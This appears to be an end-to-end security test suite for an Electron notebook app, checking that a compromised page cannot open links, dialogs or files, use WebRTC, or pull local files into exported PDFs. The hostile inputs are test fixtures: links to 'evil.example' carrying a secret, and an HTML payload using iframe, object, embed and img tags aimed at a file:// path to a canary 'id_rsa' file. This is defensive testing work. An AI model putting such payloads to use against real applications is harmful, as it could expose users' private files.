/** What a page that is no longer ours gets: nothing that a person has not chosen. */
import { createSocket } from "node:dgram";
import { mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { ElectronApplication, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { pdfText } from "../support/files.ts";
import { saveTo, start } from "../support/electron.ts";

interface Notes {
  seen: string[];
}

describe("a page that is no longer ours", () => {
  let folder: string;
  let app: ElectronApplication;
  let page: Page;
  const secret = () => join(folder, "id_rsa.md");
  const call = (...args: unknown[]) =>
    page.evaluate(
      (message) =>
        (
          globalThis.switchyardBridge!.call as (...all: unknown[]) => Promise<{ ok: boolean; value?: unknown; error?: { message: string } }>
        )(...message),
      args,
    );
  const seen = () => app.evaluate(() => (globalThis as unknown as Notes).seen.splice(0));
  /** a click where nothing is */
  const click = () => page.mouse.click(5, 300);

  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), "switchyard-e2e-"));
    await writeFile(secret(), "the secret of the canary");
    ({ app, page } = await start(join(folder, "user")));
    await page.getByRole("heading", { name: "Switchyard" }).waitFor();
    await app.evaluate(({ dialog, shell }) => {
      const notes = globalThis as unknown as Notes;
      notes.seen = [];
      for (const name of ["showOpenDialog", "showSaveDialog"] as const)
        dialog[name] = (async () => (notes.seen.push(name), { canceled: true, filePaths: [] })) as never;
      dialog.showMessageBox = (async (_window: unknown, { message }: { message: string }) => (
        notes.seen.push(message), { response: 1 }
      )) as never;
      shell.openExternal = async (url) => void notes.seen.push(url);
    });
  });
  afterAll(async () => {
    await app.evaluate(({ app: electron }) => electron.exit(0)).catch(() => {});
    await rm(folder, { recursive: true, force: true, maxRetries: 10, retryDelay: 200 });
  });

  it("opens no window, no dialog and no link without a key or a click", async () => {
    const replies = await Promise.all([
      ...Array.from({ length: 30 }, () => call("window.new")),
      ...Array.from({ length: 40 }, () => call("link.open", "https://evil.example/?secret")),
      call("document.open"),
      call("export.file", "x.html", "text"),
      call("export.folder", [{ path: "x.html", contents: "text" }]),
    ]);
    expect(replies.filter(({ ok }) => ok)).toEqual([]);
    expect(replies[0].error!.message).toContain("needs a key or a click");
    expect(app.windows()).toHaveLength(1);
    expect(await seen()).toEqual([]);
  });

  it("gets one link asked for a click, with the host it leads to, and none that is not https", async () => {
    await click();
    await Promise.all(Array.from({ length: 40 }, () => call("link.open", "https://evil.example/?secret")));
    expect(await seen()).toEqual(["Open evil.example in your browser?"]);
    await click();
    expect(await call("link.open", "http://evil.example/")).toMatchObject({ ok: false });
    expect(await seen()).toEqual([]);
  });

  it("reads no file by saying its path, nor by making up a drop", async () => {
    await click();
    for (const attempt of [
      call("document.openRecent", secret()),
      call("document.openPath", secret()).catch(() => ({ ok: false })),
      call("document.openDropped", secret()),
      call("document.openDropped"),
    ]) {
      expect(await attempt).toMatchObject({ ok: false });
    }
    await page.evaluate(() => {
      const transfer = new DataTransfer();
      transfer.items.add(new File(["text"], "a.md"));
      window.dispatchEvent(new DragEvent("drop", { dataTransfer: transfer, bubbles: true }));
    });
    expect(await call("document.openDropped")).toMatchObject({ ok: false });
  });

  it("reaches nobody over WebRTC", async () => {
    const server = createSocket("udp4");
    let packets = 0;
    server.on("message", () => packets++);
    await new Promise<void>((resolve) => server.bind(0, "127.0.0.1", resolve));
    const { port } = server.address();
    await page.evaluate(async (url) => {
      try {
        const peer = new RTCPeerConnection({ iceServers: [{ urls: url }] });
        peer.createDataChannel("x");
        await peer.setLocalDescription(await peer.createOffer());
      } catch {
        // refused outright
      }
    }, `stun:127.0.0.1:${port}`);
    await page.waitForTimeout(2000);
    server.close();
    expect(packets).toBe(0);
  });

  it("puts no local file into a PDF", async () => {
    const target = join(folder, "report.pdf");
    await saveTo(app, target);
    await click();
    const url = `file://${secret()}`;
    const hostile = `<!doctype html><meta http-equiv="refresh" content="0;url=${url}"><p>visible words</p><iframe src="${url}" width=600 height=200></iframe>
      <object data="${url}"></object><embed src="${url}"><link rel=stylesheet href="${url}"><img src="${url}"><script>document.body.textContent = "script ran"</script>`;
    expect(await call("export.pdf", "report.pdf", hostile)).toMatchObject({ ok: true, value: target });
    const text = pdfText(await readFile(target));
    if (text === null) return;
    expect(text).toContain("visible words");
    expect(text).not.toMatch(/canary|script ran/);
  });

  it("opens a file that a person drops, once, and says in the window why another is none", async () => {
    await mkdir(join(folder, "drops"));
    const [notebook, pdf] = [join(folder, "drops/dropped.md"), join(folder, "drops/paper.pdf")];
    await writeFile(notebook, "---\nswitchyard: 1\ntitle: Dropped here\n---\n");
    await writeFile(pdf, "%PDF-1.7\n%");
    const devtools = await page.context().newCDPSession(page);
    const drop = async (path: string) => {
      for (const type of ["dragEnter", "dragOver", "drop"] as const) {
        await devtools.send("Input.dispatchDragEvent", { type, x: 600, y: 400, data: { items: [], files: [path], dragOperationsMask: 1 } });
      }
    };
    await drop(pdf);
    await page.getByText("paper.pdf cannot be opened: it is a PDF, not a notebook").waitFor();
    expect(app.windows()).toHaveLength(1);
    await drop(notebook);
    await page.getByRole("heading", { name: "Dropped here" }).waitFor();
    expect(await call("document.openDropped")).toMatchObject({ ok: false });
  });
});
